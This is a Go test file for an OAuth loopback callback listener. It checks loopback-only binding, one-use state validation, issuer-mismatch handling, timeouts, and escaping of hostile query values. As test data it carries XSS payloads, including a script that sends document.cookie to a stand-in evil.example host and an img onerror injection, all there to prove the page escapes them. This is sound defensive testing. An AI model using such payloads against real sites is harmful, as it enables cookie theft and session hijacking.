package authorize_test

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/mcpauth/mcpauth/authorize"
)

// Hostile callbacks at the loopback listener (RFC 8252 §7.3, STATE-1,
// ISS-1, RDR-1): whoever hits the listener, with whatever query, the
// listener stays on loopback, takes one verified callback, and shows
// nothing it should not.

const lIssuer = "https://auth.example.com"

// lHit visits the listener the way a browser would and returns the page.
func lHit(t *testing.T, rawURL string) (int, string) {
	t.Helper()
	resp, err := http.Get(rawURL)
	if err != nil {
		t.Fatalf("GET %s: %v", rawURL, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// lSession starts a listener whose Open hands the authorization URL to
// the test instead of a browser.
func lSession(t *testing.T, timeout time.Duration) (authorize.Session, chan string) {
	t.Helper()
	urls := make(chan string, 1)
	l := &authorize.Loopback{Timeout: timeout, Open: func(_ context.Context, u string) error {
		urls <- u
		return nil
	}}
	s, err := l.Start(context.Background(), "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s, urls
}

func lRequest(s authorize.Session) authorize.Request {
	r := authorize.New()
	r.Endpoint = "https://auth.example.com/authorize"
	r.ClientID = "c"
	r.RedirectURI = s.RedirectURI()
	r.Issuer = lIssuer
	r.IssParameterSupported = true
	return r
}

type lResult struct {
	code string
	err  error
}

// lWait runs Wait in the background.
func lWait(s authorize.Session, r authorize.Request) chan lResult {
	done := make(chan lResult, 1)
	authURL, _ := r.URL()
	go func() {
		code, err := s.Wait(context.Background(), authURL, r.Verify)
		done <- lResult{code, err}
	}()
	return done
}

func callback(s authorize.Session, q url.Values) string { return s.RedirectURI() + "?" + q.Encode() }

// TestLoopback_RDR1_BindsLoopbackOnly: the listener binds 127.0.0.1 (the
// default) or ::1, and refuses any other host, names included.
func TestLoopback_RDR1_BindsLoopbackOnly(t *testing.T) {
	for _, host := range []string{"0.0.0.0", "::", "localhost", "127.0.0.2", "192.168.1.1", "10.0.0.1", "example.com", "[::]"} {
		l := &authorize.Loopback{Host: host, Open: func(context.Context, string) error { return nil }}
		if s, err := l.Start(context.Background(), ""); err == nil {
			s.Close()
			t.Errorf("Host %q accepted", host)
		}
	}
	s, _ := lSession(t, time.Minute)
	u, _ := url.Parse(s.RedirectURI())
	if u.Scheme != "http" || u.Hostname() != "127.0.0.1" || u.Port() == "" {
		t.Errorf("redirect URI %s", s.RedirectURI())
	}
	if ln, err := net.Listen("tcp", "[::1]:0"); err == nil {
		ln.Close()
		for _, host := range []string{"::1", "[::1]"} {
			l := &authorize.Loopback{Host: host, Open: func(context.Context, string) error { return nil }}
			s, err := l.Start(context.Background(), "")
			if err != nil {
				t.Fatalf("Host %q: %v", host, err)
			}
			if u, _ := url.Parse(s.RedirectURI()); u.Hostname() != "::1" {
				t.Errorf("Host %q: redirect URI %s", host, s.RedirectURI())
			}
			s.Close()
		}
	}
}

// TestLoopback_ISS1_MismatchShowsNothingOfTheResponse: a callback whose
// iss does not match, carrying an error with a scripted description,
// ends the wait with *IssuerMismatchError; neither the error nor the page
// shows the description, and the page escapes the iss it names.
func TestLoopback_ISS1_MismatchShowsNothingOfTheResponse(t *testing.T) {
	s, urls := lSession(t, time.Minute)
	r := lRequest(s)
	done := lWait(s, r)
	<-urls
	status, page := lHit(t, callback(s, url.Values{
		"state":             {r.State},
		"iss":               {`https://evil.example/"><script>alert(1)</script>`},
		"error":             {"access_denied"},
		"error_description": {`<script>location="https://evil.example/?"+document.cookie</script>Call +1-555-0100`},
	}))
	res := <-done
	var ie *authorize.IssuerMismatchError
	if !errors.As(res.err, &ie) || res.code != "" {
		t.Fatalf("Wait = %q, %v", res.code, res.err)
	}
	var se *authorize.ServerError
	if errors.As(res.err, &se) {
		t.Error("the untrusted error was acted on")
	}
	if status != http.StatusBadRequest {
		t.Errorf("status %d", status)
	}
	for _, bad := range []string{"<script", "document.cookie", "Call +1-555-0100", "access_denied"} {
		if strings.Contains(page, bad) || strings.Contains(res.err.Error(), bad) && bad != "<script" {
			t.Errorf("%q shown:\npage %s\nerror %v", bad, page, res.err)
		}
	}
}

// TestLoopback_ServerErrorEscaped: an error from the right server, after
// the checks, is shown escaped.
func TestLoopback_ServerErrorEscaped(t *testing.T) {
	s, urls := lSession(t, time.Minute)
	r := lRequest(s)
	done := lWait(s, r)
	<-urls
	_, page := lHit(t, callback(s, url.Values{"state": {r.State}, "iss": {lIssuer}, "error": {"access_denied"},
		"error_description": {`<img src=x onerror=alert(1)> "quoted" & done`}}))
	res := <-done
	var se *authorize.ServerError
	if !errors.As(res.err, &se) {
		t.Fatalf("Wait: %v", res.err)
	}
	if strings.Contains(page, "<img") || !strings.Contains(page, "&lt;img src=x onerror=alert(1)&gt;") {
		t.Errorf("page %s", page)
	}
}

// TestLoopback_STATE1_EarlyHitDoesNotConsume: a callback before Wait (a
// local process probing the port) is refused and does not stop the real
// one from being accepted.
func TestLoopback_STATE1_EarlyHitDoesNotConsume(t *testing.T) {
	s, urls := lSession(t, time.Minute)
	r := lRequest(s)
	if status, _ := lHit(t, callback(s, url.Values{"state": {r.State}, "code": {"early"}, "iss": {lIssuer}})); status != http.StatusBadRequest {
		t.Errorf("early hit: %d", status)
	}
	done := lWait(s, r)
	<-urls
	if status, _ := lHit(t, callback(s, url.Values{"state": {r.State}, "code": {"real"}, "iss": {lIssuer}})); status != http.StatusOK {
		t.Errorf("real callback: %d", status)
	}
	if res := <-done; res.err != nil || res.code != "real" {
		t.Errorf("Wait = %q, %v", res.code, res.err)
	}
}

// TestLoopback_STATE1_OneUse: a forged callback (wrong state) ends the
// wait with ErrStateMismatch; the listener then refuses every further
// callback, the right one included, and once closed answers nothing.
func TestLoopback_STATE1_OneUse(t *testing.T) {
	s, urls := lSession(t, time.Minute)
	r := lRequest(s)
	done := lWait(s, r)
	<-urls
	if status, _ := lHit(t, callback(s, url.Values{"state": {"forged"}, "code": {"forged"}, "iss": {lIssuer}})); status != http.StatusBadRequest {
		t.Errorf("forged callback: %d", status)
	}
	if res := <-done; !errors.Is(res.err, authorize.ErrStateMismatch) || res.code != "" {
		t.Fatalf("Wait = %q, %v", res.code, res.err)
	}
	status, page := lHit(t, callback(s, url.Values{"state": {r.State}, "code": {"real"}, "iss": {lIssuer}}))
	if status != http.StatusBadRequest || !strings.Contains(page, "already been used") {
		t.Errorf("second callback: %d %s", status, page)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if resp, err := http.Get(callback(s, url.Values{"state": {r.State}})); err == nil {
		resp.Body.Close()
		t.Errorf("the closed listener answered %d", resp.StatusCode)
	}
}

// TestLoopback_TimeoutEndsWait: with no callback, Wait ends with the
// deadline error of the configured timeout.
func TestLoopback_TimeoutEndsWait(t *testing.T) {
	s, _ := lSession(t, 50*time.Millisecond)
	r := lRequest(s)
	res := <-lWait(s, r)
	if !errors.Is(res.err, context.DeadlineExceeded) || res.code != "" {
		t.Errorf("Wait = %q, %v", res.code, res.err)
	}
}
